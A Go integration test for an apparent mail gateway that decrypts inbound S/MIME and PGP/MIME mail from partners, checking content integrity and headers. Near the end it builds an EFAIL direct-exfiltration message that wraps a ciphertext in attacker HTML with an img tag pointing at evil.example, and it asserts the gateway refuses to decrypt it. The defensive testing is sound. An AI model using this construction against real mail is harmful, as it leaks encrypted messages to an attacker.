package integration

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/mailseal/mailseal/integration/postfixtest"
)

// partnerEntity is what a partner encrypts: UTF-8 text sent 8bit and a
// binary attachment, as a MIME entity with CRLF line ends.
func partnerEntity(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	b.WriteString("Content-Type: multipart/mixed; boundary=\"inner-b\"\r\n\r\n")
	b.WriteString("--inner-b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n")
	b.WriteString(utf8Text)
	b.WriteString("--inner-b\r\nContent-Type: application/octet-stream; name=\"data.bin\"\r\n")
	b.WriteString("Content-Disposition: attachment; filename=\"data.bin\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
	b.Write(base64Lines(randomBytes(t, 100<<10)))
	b.WriteString("--inner-b--\r\n")
	return b.Bytes()
}

func mustRead(t *testing.T, path string) []byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func base64Lines(data []byte) []byte {
	var b bytes.Buffer
	enc := []byte(base64.StdEncoding.EncodeToString(data))
	for len(enc) > 76 {
		b.Write(enc[:76])
		b.WriteString("\r\n")
		enc = enc[76:]
	}
	b.Write(enc)
	b.WriteString("\r\n")
	return b.Bytes()
}

// exportCert writes an internal user's current certificate, as the
// daemon's CLI exports it, to a file.
func exportCert(t *testing.T, d *daemon, addr string) string {
	t.Helper()
	if out, err := d.CLI("certs", "issue", addr); err != nil {
		t.Fatalf("certs issue %s: %v\n%s", addr, err, out)
	}
	pem, err := d.CLI("certs", "export", addr)
	if err != nil || !strings.Contains(pem, "BEGIN CERTIFICATE") {
		t.Fatalf("certs export %s: %v\n%s", addr, err, pem)
	}
	f := filepath.Join(t.TempDir(), "cert.pem")
	if err := os.WriteFile(f, []byte(pem), 0o600); err != nil {
		t.Fatal(err)
	}
	return f
}

// opensslEncrypt encrypts entity with `openssl cms -encrypt` to the
// certificates and returns the S/MIME message (its Content-* fields and
// base64 body) as openssl writes it.
func opensslEncrypt(t *testing.T, entity []byte, cipher string, certFiles ...string) []byte {
	t.Helper()
	dir := t.TempDir()
	in, out := filepath.Join(dir, "in.eml"), filepath.Join(dir, "out.eml")
	if err := os.WriteFile(in, entity, 0o600); err != nil {
		t.Fatal(err)
	}
	args := append([]string{"cms", "-encrypt", "-binary", cipher, "-in", in, "-out", out}, certFiles...)
	if res, err := run(t, nil, "openssl", args...); err != nil {
		t.Fatalf("openssl cms -encrypt: %v\n%s", err, res)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// partnerMail puts the outer header of a partner's mail in front of an
// encrypted entity (Content-* fields first, then its body).
func partnerMail(to []string, subject string, encrypted []byte) []byte {
	return append([]byte(fmt.Sprintf("From: Bob <bob@partner.example>\r\nTo: %s\r\nSubject: %s\r\nDate: Sun, 29 Nov 2026 10:00:00 +0000\r\nMessage-ID: <%d@partner.example>\r\n",
		strings.Join(to, ", "), subject, time.Now().UnixNano())), encrypted...)
}

// Inbound mail encrypted to internal users by partners' real tools arrives
// decrypted, with the header that records it; content byte for byte.
func TestInboundEncryptedMailArrivesDecrypted(t *testing.T) {
	d, pf := setupPolicy(t, "", map[string]string{"message_size_limit": "0"})
	alice := exportCert(t, d, "alice@corp.example")
	entity := partnerEntity(t)

	send := func(to []string, msg []byte) {
		t.Helper()
		if err := pf.Send(t, postfixtest.Mail{From: "bob@partner.example", To: to, Data: msg, SourceIP: untrustedIP}); err != nil {
			t.Fatal(err)
		}
	}
	n := 0
	for _, tc := range []struct{ name, cipher, method string }{
		{"cbc", "-aes256", "S/MIME AES-256-CBC for alice@corp.example"},
		{"gcm", "-aes-256-gcm", "S/MIME AES-256-GCM for alice@corp.example"},
	} {
		send([]string{"alice@corp.example"}, partnerMail([]string{"alice@corp.example"}, "openssl "+tc.name, opensslEncrypt(t, entity, tc.cipher, alice)))
		n++
		raw := pf.WaitDelivered(t, "alice@corp.example", n, deliveryTimeout)[n-1]
		m := parseMail(t, raw)
		if got := m.Header.Get("X-Mailseal-Decrypted"); !strings.HasPrefix(got, tc.method) {
			t.Fatalf("%s: X-Mailseal-Decrypted %q\n%s", tc.name, got, head(raw))
		}
		if ct := m.Header.Get("Content-Type"); !strings.HasPrefix(ct, "multipart/mixed") || m.Header.Get("Subject") != "openssl "+tc.name {
			t.Fatalf("%s: Content-Type %q Subject %q", tc.name, ct, m.Header.Get("Subject"))
		}
		checkSameContent(t, tc.name, entity, contentOf(raw))
	}

	// A partner still encrypting to alice's previous certificate after it
	// was replaced: the old key still opens it.
	if renewed := exportCert(t, d, "alice@corp.example"); bytes.Equal(mustRead(t, renewed), mustRead(t, alice)) {
		t.Fatal("certs issue did not replace the certificate")
	}
	send([]string{"alice@corp.example"}, partnerMail([]string{"alice@corp.example"}, "old certificate", opensslEncrypt(t, entity, "-aes256", alice)))
	n++
	raw := pf.WaitDelivered(t, "alice@corp.example", n, deliveryTimeout)[n-1]
	if got := parseMail(t, raw).Header.Get("X-Mailseal-Decrypted"); !strings.HasPrefix(got, "S/MIME AES-256-CBC for alice@corp.example") {
		t.Fatalf("old certificate: X-Mailseal-Decrypted %q\n%s", got, head(raw))
	}
	checkSameContent(t, "old certificate", entity, contentOf(raw))

	// PGP/MIME with gpg, to the key `mailseal keys export` hands out.
	pub, err := d.CLI("keys", "export", "alice@corp.example")
	if err != nil || !strings.Contains(pub, "BEGIN PGP PUBLIC KEY BLOCK") {
		t.Fatalf("keys export: %v\n%s", err, pub)
	}
	bob := newPGPPartner(t, "bob@partner.example")
	keyFile := filepath.Join(t.TempDir(), "alice.asc")
	if err := os.WriteFile(keyFile, []byte(pub[strings.Index(pub, "-----BEGIN"):]), 0o600); err != nil {
		t.Fatal(err)
	}
	if out, err := run(t, bob.env(), "gpg", "--batch", "--import", keyFile); err != nil {
		t.Fatalf("gpg --import: %v\n%s", err, out)
	}
	cmd := exec.Command("gpg", "--homedir", bob.home, "--batch", "--trust-model", "always", "--armor", "--encrypt", "--recipient", "alice@corp.example")
	cmd.Stdin = bytes.NewReader(entity)
	armored, err := cmd.Output()
	if err != nil {
		t.Fatalf("gpg --encrypt: %v", err)
	}
	pgp := "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"pgp-b\"\r\nMIME-Version: 1.0\r\n\r\n" +
		"--pgp-b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--pgp-b\r\n" +
		"Content-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\r\n" + string(armored) + "\r\n--pgp-b--\r\n"
	send([]string{"alice@corp.example"}, partnerMail([]string{"alice@corp.example"}, "gpg", []byte(pgp)))
	n++
	raw = pf.WaitDelivered(t, "alice@corp.example", n, deliveryTimeout)[n-1]
	m := parseMail(t, raw)
	if got := m.Header.Get("X-Mailseal-Decrypted"); !strings.HasPrefix(got, "PGP/MIME for alice@corp.example") {
		t.Fatalf("gpg: X-Mailseal-Decrypted %q\n%s", got, head(raw))
	}
	checkSameContent(t, "gpg", entity, contentOf(raw))

	// CBC with HTML that loads a remote image: delivered decrypted, the
	// HTML as plain text.
	html := []byte("Content-Type: text/html; charset=utf-8\r\n\r\n<p>Offer</p><img src=\"http://evil.example/?x=\">\r\n")
	send([]string{"alice@corp.example"}, partnerMail([]string{"alice@corp.example"}, "html", opensslEncrypt(t, html, "-aes256", alice)))
	n++
	raw = pf.WaitDelivered(t, "alice@corp.example", n, deliveryTimeout)[n-1]
	m = parseMail(t, raw)
	if got := m.Header.Get("X-Mailseal-Decrypted"); !strings.Contains(got, "active HTML shown as plain text") ||
		!strings.HasPrefix(m.Header.Get("Content-Type"), "text/plain") || bytes.Contains(raw, []byte("<img")) {
		t.Fatalf("CBC HTML not neutralised: %q\n%s", got, head(raw))
	}

	// EFAIL direct exfiltration: a captured ciphertext for alice between
	// two HTML parts of the attacker's. Delivered as it came, never
	// decrypted into that context.
	smimeMsg := opensslEncrypt(t, entity, "-aes256", alice)
	efail := "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"efail\"\r\n\r\n" +
		"--efail\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n--efail\r\n" +
		strings.Replace(string(smimeMsg), "MIME-Version: 1.0\n", "", 1) +
		"\r\n--efail\r\nContent-Type: text/html\r\n\r\n\">\r\n--efail--\r\n"
	send([]string{"alice@corp.example"}, partnerMail([]string{"alice@corp.example"}, "efail", []byte(efail)))
	n++
	raw = pf.WaitDelivered(t, "alice@corp.example", n, deliveryTimeout)[n-1]
	m = parseMail(t, raw)
	if m.Header.Get("X-Mailseal-Decrypted") != "" || !strings.HasPrefix(m.Header.Get("Content-Type"), "multipart/mixed") ||
		!strings.Contains(m.Header.Get("X-Mailseal-Not-Decrypted"), "only a message that is encrypted as a whole is decrypted") ||
		bytes.Contains(raw, []byte("Grüße")) {
		t.Fatalf("EFAIL message: %q\n%s", m.Header.Get("X-Mailseal-Not-Decrypted"), head(raw))
	}

	// Encrypted to alice alone, sent to alice and carol: carol's key does
	// not open it, so neither gets it decrypted.
	exportCert(t, d, "carol@corp.example")
	both := []string{"alice@corp.example", "carol@corp.example"}
	send(both, partnerMail(both, "only alice", opensslEncrypt(t, entity, "-aes-256-gcm", alice)))
	n++
	for _, r := range both {
		want := 1
		if r == "alice@corp.example" {
			want = n
		}
		raw := pf.WaitDelivered(t, r, want, deliveryTimeout)[want-1]
		m := parseMail(t, raw)
		if !strings.HasPrefix(m.Header.Get("Content-Type"), "application/pkcs7-mime") || m.Header.Get("X-Mailseal-Decrypted") != "" ||
			!strings.Contains(m.Header.Get("X-Mailseal-Not-Decrypted"), "not encrypted to a key held for one of the recipients") ||
			strings.Contains(string(raw), "carol@corp.example; it") {
			t.Fatalf("%s: %q / %q\n%s", r, m.Header.Get("Content-Type"), m.Header.Get("X-Mailseal-Not-Decrypted"), head(raw))
		}
	}
}
